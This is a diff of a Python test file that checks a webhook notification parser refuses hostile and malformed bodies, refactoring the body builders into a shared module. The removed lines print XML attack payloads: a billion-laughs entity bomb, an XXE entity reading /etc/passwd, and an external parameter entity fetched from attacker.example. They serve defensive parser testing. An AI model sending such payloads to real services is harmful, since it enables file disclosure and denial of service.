@@ -1,15 +1,15 @@
 """Hostile and malformed bodies: each is refused with its one typed error, code and message.
 
 Every body is a real sample from ``events/payloads/`` with one targeted edit (or, for the
-body-level cases, no sample at all), so each case shows exactly one thing the parser refuses.
-The message is checked exactly, or by a precise pattern where part of it is reported as
-unclear instead of being pinned here.
+body-level cases, no sample at all), so each case shows exactly one thing the parser refuses;
+the builders are in ``tests/support/hostile_bodies.py``, shared with the corpus that
+``reliability/hostile.py`` sends over HTTP. The message is checked exactly, or by a precise
+pattern where part of it is reported as unclear instead of being pinned here.
 """
 
 from __future__ import annotations
 
 import codecs
-import json
 import re
 from dataclasses import dataclass
 from typing import Any, NamedTuple
@@ -18,7 +18,25 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from tests.support.payloads import SAMPLES, payload_bytes
+from tests.support.hostile_bodies import (
+    AFTER_MACHETQECC,
+    BEFORE_MACHETQECC,
+    BILLION_LAUGHS,
+    LONE_HIGH_SURROGATE_LE,
+    PARAMETER_ENTITIES,
+    SUBSCRIBE_JSON,
+    SUBSCRIBE_XML,
+    UNSUBSCRIBE_TEXT,
+    XXE,
+    edit,
+    event_date,
+    json_with,
+    mutated_samples,
+    nested,
+    recipient_count,
+    without_line,
+)
+from tests.support.payloads import payload_bytes
 from tilte_webhooks.errors import (
     EmptyBody,
     FieldProblem,
@@ -36,85 +54,6 @@ from tilte_webhooks.errors import (
 )
 from tilte_webhooks.models import NotificationBase
 from tilte_webhooks.parser import DEFAULT_MAX_BODY_BYTES, parse_notification
-
-# --- Building bodies from the samples --------------------------------------------------------
-
-
-def edit(notification_type: str, fmt: str, old: bytes, new: bytes, count: int = 1) -> bytes:
-    """The sample with ``old`` (found exactly ``count`` times) replaced by ``new``."""
-    body = payload_bytes(notification_type, fmt)
-    if body.count(old) != count:
-        raise ValueError(f"{old!r} is not {count} time(s) in {notification_type}.{fmt}")
-    return body.replace(old, new)
-
-
-def without_line(notification_type: str, fmt: str, fragment: bytes) -> bytes:
-    """The sample without the one line that contains ``fragment``."""
-    lines = payload_bytes(notification_type, fmt).splitlines(keepends=True)
-    matching = [line for line in lines if fragment in line]
-    if len(matching) != 1:
-        raise ValueError(f"{fragment!r} is not on exactly one line of {notification_type}.{fmt}")
-    return b"".join(line for line in lines if fragment not in line)
-
-
-def json_with(notification_type: str, path: tuple[str | int, ...], value: object) -> bytes:
-    """The JSON sample, re-serialised, with the value at ``path`` replaced."""
-    document = json.loads(payload_bytes(notification_type, "json"))
-    parent: Any = document
-    for part in path[:-1]:
-        parent = parent[part]
-    parent[path[-1]] = value
-    return json.dumps(document, indent=4).encode("utf-8")
-
-
-def event_date(new: bytes, fmt: str = "json") -> bytes:
-    """Subscribe with the third event's (``Events[2]``) date replaced."""
-    if fmt == "xml":
-        return edit("Subscribe", "xml", b">2024-08-07T12:46:13.0929985Z<", b">" + new + b"<")
-    return edit("Subscribe", "json", b'"2024-08-07T12:46:13.0929985Z"', b'"' + new + b'"')
-
-
-def recipient_count(value: bytes) -> bytes:
-    """CampaignSent (JSON) with ``RecipientCount`` set to the raw JSON ``value``."""
-    return edit("CampaignSent", "json", b'"RecipientCount": "2"', b'"RecipientCount": ' + value)
-
-
-def nested(depth: int) -> bytes:
-    return b"<Extra>" * depth + b"deep" + b"</Extra>" * depth
-
-
-SUBSCRIBE_XML = payload_bytes("Subscribe", "xml")
-SUBSCRIBE_JSON = payload_bytes("Subscribe", "json")
-UNSUBSCRIBE_TEXT = payload_bytes("Unsubscribe", "xml").decode("utf-8")
-BEFORE_MACHETQECC = UNSUBSCRIBE_TEXT[: UNSUBSCRIBE_TEXT.index("machetqecc")]
-AFTER_MACHETQECC = UNSUBSCRIBE_TEXT[len(BEFORE_MACHETQECC) :]
-LONE_HIGH_SURROGATE_LE = b"\x00\xd8"
-"""U+D800 in UTF-16 LE, with no low surrogate after it."""
-
-BILLION_LAUGHS = b"""<?xml version="1.0"?>
-<!DOCTYPE SubscribedNotification [
-  <!ENTITY lol "lol">
-  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
-  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
-  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
-]>
-<SubscribedNotification><ListName>&lol3;</ListName></SubscribedNotification>
-"""
-XXE = edit(
-    "Subscribe",
-    "xml",
-    b"<SubscribedNotification ",
-    b'<!DOCTYPE SubscribedNotification [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
-    b"<SubscribedNotification ",
-).replace(b"<ListName>WebhookTestList4</ListName>", b"<ListName>&xxe;</ListName>")
-PARAMETER_ENTITIES = edit(
-    "Subscribe",
-    "xml",
-    b"<SubscribedNotification ",
-    b'<!DOCTYPE SubscribedNotification [\n  <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">\n'
-    b"  %remote;\n]>\n<SubscribedNotification ",
-)
-
 
 # --- The table --------------------------------------------------------------------------------
 
@@ -395,6 +334,16 @@ CASES: list[pytest.ParameterSet] = [
         id="type-as-a-number",
     ),
     # Required fields missing or empty.
+    pytest.param(
+        edit("Subscribe", "json", b'"SubscriberId": "alwskd', b'"subscriber_id": "alwskd'),
+        fields("Events[0].SubscriberId: is required"),
+        id="python-name-instead-of-subscriber-id-json",
+    ),
+    pytest.param(
+        edit("MessageBounced", "xml", b"<Type>S</Type>", b"<bounce_type>S</bounce_type>"),
+        fields("Events[0].Type: is required"),
+        id="python-name-instead-of-type-xml",
+    ),
     pytest.param(
         without_line("Subscribe", "xml", b"<Email>kjhvkf.myemail@mail.com</Email>"),
         fields("Events[1].Email: is required"),
@@ -767,6 +716,18 @@ def test_an_empty_notification_type_is_invalid_not_unknown(fmt: str) -> None:
     assert raised.value.message == "NotificationType: must not be empty"
 
 
+def test_a_python_name_next_to_tilte_s_is_kept_as_an_added_field() -> None:
+    body = edit(
+        "Subscribe",
+        "json",
+        b'"SubscriberId": "alwskd.myemail@mail.com"',
+        b'"SubscriberId": "alwskd.myemail@mail.com", "subscriber_id": "other"',
+    )
+    notification = parse(body)
+    first = notification.model_dump(by_alias=True)["Events"][0]
+    assert (first["SubscriberId"], first["subscriber_id"]) == ("alwskd.myemail@mail.com", "other")
+
+
 def test_a_json_scalar_is_json_that_is_not_an_object() -> None:
     for body, kind in ((b'"hello"', "text"), (b"42", "a number"), (b"null", "null")):
         with pytest.raises(InvalidFields) as raised:
@@ -787,56 +748,6 @@ def test_offsets_count_from_the_start_of_the_body_including_the_bom() -> None:
 
 
 # --- Property: whatever the bytes, a model or a NotificationError, never anything else -------
-
-INTERESTING = [
-    b"<",
-    b">",
-    b"</",
-    b"&",
-    b"&lol;",
-    b'"',
-    b"{",
-    b"[",
-    b"]",
-    b"}",
-    b",",
-    b"\\",
-    b"\\ud800",
-    b"\x00",
-    b"\xff",
-    b"\xef\xbb\xbf",
-    b"\xff\xfe",
-    b"<!DOCTYPE a>",
-    b"<![CDATA[",
-    b'xsi:nil="true"',
-    b"NaN",
-    b"9" * 5000,
-    b"<Extra>" * 40,
-]
-
-
-@st.composite
-def mutated_samples(draw: st.DrawFn) -> bytes:
-    """A sample (as sent, or as UTF-16 LE with a BOM) with a few byte flips, cuts and inserts."""
-    body = payload_bytes(*draw(st.sampled_from(SAMPLES)))
-    if draw(st.booleans()):
-        body = codecs.BOM_UTF16_LE + body.decode("utf-8").encode("utf-16-le")
-    mutable = bytearray(body)
-    for _ in range(draw(st.integers(min_value=1, max_value=4))):
-        at = draw(st.integers(min_value=0, max_value=max(len(mutable) - 1, 0)))
-        kind = draw(st.sampled_from(("flip", "truncate", "insert", "delete")))
-        if kind == "flip" and mutable:
-            mutable[at] ^= 1 << draw(st.integers(min_value=0, max_value=7))
-        elif kind == "truncate":
-            del mutable[at:]
-        elif kind == "insert":
-            insert = draw(
-                st.one_of(st.sampled_from(INTERESTING), st.binary(min_size=1, max_size=8))
-            )
-            mutable[at:at] = insert
-        else:
-            del mutable[at : at + draw(st.integers(min_value=1, max_value=16))]
-    return bytes(mutable)
 
 
 def parses_or_refuses(body: bytes) -> None:
